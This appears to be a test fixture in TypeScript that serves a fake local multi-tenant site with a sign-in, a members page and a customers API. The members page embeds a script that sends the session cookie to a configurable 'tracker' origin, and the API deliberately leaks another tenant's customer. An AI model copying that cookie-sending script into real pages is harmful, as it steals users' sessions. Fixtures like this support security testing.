import type { IncomingMessage, ServerResponse } from 'node:http';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A site with a sign-in, and data that only who is signed in, or only one tenant, may see. */
export interface TenantSite {
  readonly origin: string;
  /** Requests other than GET, as `METHOD /path`. */
  readonly changes: readonly string[];
  /** Ends every session there is. */
  readonly endSessions: () => void;
  readonly signIns: () => number;
  readonly close: () => Promise<void>;
}

/** What the site holds. */
export interface TenantData {
  /** Stands on the front page, for everybody. */
  readonly open: string;
  /** Stands in the answer of an interface, for who is signed in. */
  readonly members: string;
  /** The name of a customer of tenant `red`, which `blue` is shown by mistake. */
  readonly red: string;
  readonly session: string;
  /** The origin that a page of members sends its session to. */
  readonly tracker: string;
}

const FORM = `<form method="post" action="/session"><input name="name"><input name="password" type="password"><button>Sign in</button></form>`;

function members(data: TenantData): string {
  const code = `fetch('/api/customers').then((answer) => answer.json());
    fetch('${data.tracker}/collect?s=' + document.cookie.split('=')[1], { mode: 'no-cors' }).catch(() => 0);`;
  return `<h1>Members</h1><a href="/sign-out">out</a><script>${code}</script>`;
}

/** Serves the site until it is closed. */
export async function serveTenants(data: TenantData): Promise<TenantSite> {
  const changes: string[] = [];
  let sessions = new Map<string, string>();
  let signIns = 0;

  function signIn(request: IncomingMessage, response: ServerResponse): void {
    let body = '';
    request.on('data', (piece: Buffer) => void (body += piece.toString()));
    request.on('end', () => {
      const name = new URLSearchParams(body).get('name') ?? '';
      const session = `${data.session}${++signIns}`;
      sessions.set(session, name);
      response.writeHead(303, { location: '/members', 'set-cookie': `sid=${session}; Path=/` }).end();
    });
  }

  function handle(request: IncomingMessage, response: ServerResponse): void {
    const { method = '', url = '' } = request;
    const path = url.split('?', 1)[0] ?? '';
    if (method !== 'GET') changes.push(`${method} ${path}`);
    if (method === 'POST' && path === '/session') return signIn(request, response);
    const role = sessions.get(/sid=([^;]+)/.exec(request.headers.cookie ?? '')?.[1] ?? '');
    const page = (text: string): void =>
      void response.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><title>T</title>${text}`);
    if (path === '/') return page(`<a href="/members">members</a>${FORM}<!-- ${data.open} -->`);
    if (path === '/sign-out') {
      sessions = new Map();
      return page('signed out');
    }
    if (role === undefined) return void response.writeHead(path === '/members' ? 302 : 401, { location: '/' }).end();
    if (path === '/members') return page(members(data));
    if (path === '/api/customers') {
      const body = JSON.stringify({ key: data.members, customers: [data.red] });
      return void response.writeHead(200, { 'content-type': 'application/json' }).end(body);
    }
    response.writeHead(404).end();
  }

  const server = createServer(handle);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    changes,
    endSessions: () => void (sessions = new Map()),
    signIns: () => signIns,
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}
